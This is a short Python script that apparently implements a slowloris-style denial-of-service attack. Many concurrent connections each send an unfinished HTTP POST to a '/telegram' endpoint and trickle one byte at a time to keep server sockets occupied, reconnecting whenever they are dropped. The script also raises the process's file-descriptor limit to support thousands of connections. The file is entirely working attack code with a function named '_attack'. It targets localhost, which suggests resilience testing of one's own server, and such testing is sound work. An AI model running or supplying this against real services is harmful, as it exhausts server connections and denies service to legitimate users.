"""Callers who never finish asking: each opens a connection, says a little, and calls again when cut off."""

from __future__ import annotations

import asyncio
import resource
import sys
from contextlib import suppress

_BEGINNING = b"POST /telegram HTTP/1.1\r\nHost: kinerja.example\r\nX-Slow: "


async def _caller(port: int) -> None:
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(_BEGINNING)
            while not reader.at_eof() and not writer.is_closing():
                writer.write(b"x")
                with suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1024), 1)
            writer.close()
        await asyncio.sleep(1)


async def _attack(port: int, callers: int) -> None:
    await asyncio.gather(*(_caller(port) for _ in range(callers)))


def main(port: int, callers: int) -> None:
    """Calls until it is ended."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, callers + 1000), hard))
    asyncio.run(_attack(port, callers))


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]))
